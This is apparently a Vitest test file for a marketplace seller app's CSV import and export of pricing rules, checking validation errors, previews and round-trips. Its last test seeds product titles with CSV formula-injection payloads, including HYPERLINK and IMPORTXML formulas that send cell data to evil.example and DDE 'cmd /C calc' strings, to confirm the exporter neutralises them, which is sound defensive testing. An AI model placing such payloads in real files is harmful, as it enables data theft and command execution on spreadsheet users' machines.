import { afterEach, describe, expect, it } from 'vitest';
import { msg, renderMessage } from '../../../src-shared/i18n';
import type { Message } from '../../../src-shared/i18n';

/** Messages as the Russian seller reads them. */
const ru = (messages: Message[]) => messages.map((m) => renderMessage(m, 'ru'));
const billion = '1\u202F000\u202F000\u202F000\u00A0₸';
import type { Database } from 'better-sqlite3';
import { createRulesService } from '../../../src-main/rules/rules-service';
import { createRulesCsv } from '../../../src-main/rules/rules-csv';
import { BOM } from '../../../src-shared/csv';
import { useTempDir } from '../../support/temp-dir';
import { seedDatabase, snapshotOf, T0 } from './seed';

const tempDir = useTempDir();
let db: Database | undefined;
afterEach(() => { db?.close(); db = undefined; });

function setup() {
  const seeded = seedDatabase(tempDir(), [{
    name: 'Мой магазин', uid: '30000001', defaults: { ceiling: 30_000 },
    products: [
      { sku: 'A1', title: 'Чайник; "Tefal"', rules: { floor: { kind: 'fixed', price: 10_000 }, ceiling: 12_000, strategy: 'match' }, bot: true },
      { sku: 'B2', rules: { floor: { kind: 'cost', cost: 7_000, commissionPercent: 10 }, step: { unit: 'percent', value: 1.5 }, ceiling: null } },
      { sku: 'C3' },
      { sku: 'D4' },
    ],
  }]);
  db = seeded.db;
  const changed: Array<number[] | null> = [];
  const onChanged = (ids: number[] | null) => changed.push(ids);
  const rules = createRulesService({ db: seeded.db, now: () => new Date(T0), onChanged });
  return { ...seeded, csv: createRulesCsv({ db: seeded.db, rules, now: () => new Date(T0), onChanged }), rules, changed };
}

const all = (db: Database, ids: Map<string, number>) => [...ids.values()].map((id) => snapshotOf(db, id));

describe('rules CSV import and export over SQLite', () => {
  it('shows a preview of changes and per-row errors without writing, then applies only the good rows in one go', () => {
    const { db, ids, csv, changed } = setup();
    const file = [
      'Артикул;Минимальная цена;Максимальная цена;Стратегия;Бот',
      'A1;"10 500";12 000 ₸;Ниже конкурента;да', // good: floor and strategy change
      'B2;;13000;;', // good: ceiling set
      'C3;12 990,5;;;да', // fractional floor
      'D4;11000;10000;;', // floor above ceiling
      'Z9;5000;;;', // unknown product
      'C3;5000;;Самая низкая;', // unknown strategy
    ].join('\r\n');
    const before = all(db, ids);
    const preview = csv.importCsv(file, false);
    expect(preview.fileErrors).toEqual([]);
    expect(preview.applied).toBe(0);
    expect(all(db, ids)).toEqual(before);
    const byLine = new Map(preview.rows.map((r) => [r.line, r]));
    expect(byLine.get(2)).toMatchObject({ sku: 'A1', errors: [], changes: [{ field: 'floor', from: '10\u202F000\u00A0₸', to: '10\u202F500\u00A0₸' }, { field: 'strategy', from: 'match', to: 'undercut' }] });
    expect(byLine.get(3)).toMatchObject({ errors: [], changes: [{ field: 'ceiling', from: 'none', to: '13\u202F000\u00A0₸' }] });
    expect(ru(byLine.get(4)!.errors)).toEqual(['Минимальная цена: цена должна быть целым числом тенге, без тиынов: «12 990,5»']);
    expect(ru(byLine.get(5)!.errors)).toEqual(['Минимальная цена выше максимальной (11\u202F000\u00A0₸ > 10\u202F000\u00A0₸)']);
    expect(byLine.get(6)!.errors).toEqual([msg('csv.sku_not_found', { sku: 'Z9' })]);
    expect(ru(byLine.get(6)!.errors)).toEqual(['Товар с артикулом «Z9» не найден']);
    expect(byLine.get(6)!.errors.map((m) => renderMessage(m, 'kk'))).toEqual(['«Z9» артикулы бар тауар табылмады']);
    expect(ru(byLine.get(7)!.errors)).toEqual(['Неизвестная стратегия «Самая низкая»', 'Этот товар уже есть в строке 4']);

    const applied = csv.importCsv(file, true);
    expect(applied.applied).toBe(2);
    const rules = (sku: string) => JSON.parse((db.prepare('SELECT rules_json FROM products WHERE id = ?').get(ids.get(sku)) as { rules_json: string }).rules_json);
    expect(rules('A1')).toMatchObject({ floor: { kind: 'fixed', price: 10_500 }, strategy: 'undercut', ceiling: 12_000 });
    expect(rules('B2')).toMatchObject({ floor: { kind: 'cost', cost: 7_000, commissionPercent: 10 }, ceiling: 13_000 });
    expect(rules('C3')).toEqual({});
    expect(rules('D4')).toEqual({});
    expect(changed).toEqual([[ids.get('A1'), ids.get('B2')]]);
  });

  it('refuses a price over 1 billion ₸ in a file, naming the limit', () => {
    const { csv } = setup();
    const result = csv.importCsv('SKU;Floor;Ceiling\nA1;10000;5 000 000 000\nB2;99999999999999999;\n', false);
    expect(result.rows.map((r) => ru(r.errors))).toEqual([
      [`Максимальная цена: цена не может быть больше ${billion}: «5 000 000 000»`],
      [`Минимальная цена: цена не может быть больше ${billion}: «99999999999999999»`],
    ]);
  });

  it('refuses to switch the bot on from a file for a product that gets no floor', () => {
    const { db, ids, csv } = setup();
    const result = csv.importCsv('SKU,Bot\nC3,yes\nB2,yes\n', true);
    expect(result.rows[0]!.errors).toEqual([msg('rules.no_floor')]);
    expect(result.rows[1]).toMatchObject({ errors: [], changes: [{ field: 'bot', from: 'false', to: 'true' }] });
    expect(result.applied).toBe(1);
    expect(JSON.parse(snapshotOf(db, ids.get('C3')!)).bot_enabled).toBe(0);
  });

  it('exports an Excel-friendly file that imports back with no changes, in Russian and in English', () => {
    const { db, ids, csv } = setup();
    for (const language of ['ru', 'en'] as const) {
      const { fileName, csv: text } = csv.exportCsv(undefined, language);
      expect(text.startsWith(BOM)).toBe(true);
      expect(fileName).toMatch(/\.csv$/);
      const before = all(db, ids);
      const back = csv.importCsv(text, true);
      expect(back.fileErrors).toEqual([]);
      expect(back.rows.filter((r) => r.changes.length > 0 || r.errors.length > 0)).toEqual([]);
      expect(back.applied).toBe(0);
      expect(all(db, ids)).toEqual(before);
    }
    const ru = csv.exportCsv(undefined, 'ru').csv;
    expect(ru.split('\r\n')[0]).toBe(`${BOM}Магазин;Артикул;Название;Минимальная цена;Себестоимость;Максимальная цена;Шаг;Стратегия;Целевое место;Бот`);
    expect(ru).toContain('Мой магазин;A1;"Чайник; ""Tefal""";10000;;12000;;Как у конкурента;;да');
    expect(ru).toContain(';B2;Товар B2;;7000;нет;1.5%;;;нет');
  });

  it('gives a file-level error and writes nothing for an empty, binary or header-less file', () => {
    const { db, ids, csv } = setup();
    const before = all(db, ids);
    expect(ru(csv.importCsv('', true).fileErrors)).toEqual(['Файл пуст']);
    expect(ru(csv.importCsv(`${BOM}\r\n`, true).fileErrors)).toEqual(['Файл пуст']);
    expect(ru(csv.importCsv('PK\u0003\u0004\u0014\u0000\u0006\u0000binary', true).fileErrors)[0]).toMatch(/^Это не CSV-файл/);
    expect(ru(csv.importCsv('Название;Минимальная цена\nЧайник;100\n', true).fileErrors)[0]).toMatch(/^Нет столбца «Артикул»/);
    expect(ru(csv.importCsv('SKU;Title\nA1;x\n', true).fileErrors)[0]).toMatch(/^Нет ни одного столбца с правилами/);
    expect(ru(csv.importCsv('SKU;Floor\n', true).fileErrors)[0]).toMatch(/только заголовок/);
    expect(ru(csv.importCsv('SKU;Floor\n"A1;100\n', true).fileErrors)[0]).toMatch(/незакрытая кавычка/);
    expect(all(db, ids)).toEqual(before);
  });

  it('asks for the store when the same SKU is in two stores, and reports a product repeated in the file', () => {
    const seeded = seedDatabase(tempDir(), [
      { name: 'Первый', uid: '1', products: [{ sku: 'X' }] },
      { name: 'Второй', uid: '2', products: [{ sku: 'X' }] },
    ]);
    db = seeded.db;
    const rules = createRulesService({ db: seeded.db, now: () => new Date(T0) });
    const csv = createRulesCsv({ db: seeded.db, rules, now: () => new Date(T0) });
    const result = csv.importCsv('SKU;Floor;Store\nX;100;\nX;200;второй\nX;300;2\n', true);
    expect(result.rows.map((r) => ru(r.errors))).toEqual([
      ['Артикул «X» есть в нескольких магазинах — заполните столбец «Магазин»'],
      [],
      ['Этот товар уже есть в строке 3'],
    ]);
    expect(result.applied).toBe(1);
  });
});

describe('rules CSV export with titles and store names a third party controls', () => {
  // Titles and store names come from Kaspi: anyone selling there writes them.
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1', "'=already quoted"];

  it('neutralises every cell a spreadsheet would run as a formula, and imports its own file back unchanged', () => {
    const seeded = seedDatabase(tempDir(), [{
      name: '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', uid: '30000009',
      products: HOSTILE.map((title, i) => ({ sku: `-A${i}`, title, rules: { floor: { kind: 'fixed', price: 1000 + i } } })),
    }]);
    db = seeded.db;
    const rules = createRulesService({ db: seeded.db, now: () => new Date(T0) });
    const csv = createRulesCsv({ db: seeded.db, rules, now: () => new Date(T0) });
    const text = csv.exportCsv(undefined, 'ru').csv;
    // A cell opens after the BOM, a separator or a line break (quoted or not): none may open with = + - @ tab or CR.
    expect(text.replace(BOM, '')).not.toMatch(/(^|;|\r\n)"?[=+\-@\t\r]/);
    expect(text).toContain(`'-2+3+cmd`);

    const back = csv.importCsv(text, true);
    expect(back.fileErrors).toEqual([]);
    expect(back.rows.map((r) => [r.sku, r.errors, r.changes]).sort()).toEqual(HOSTILE.map((_, i) => [`-A${i}`, [], []]));
  });
});
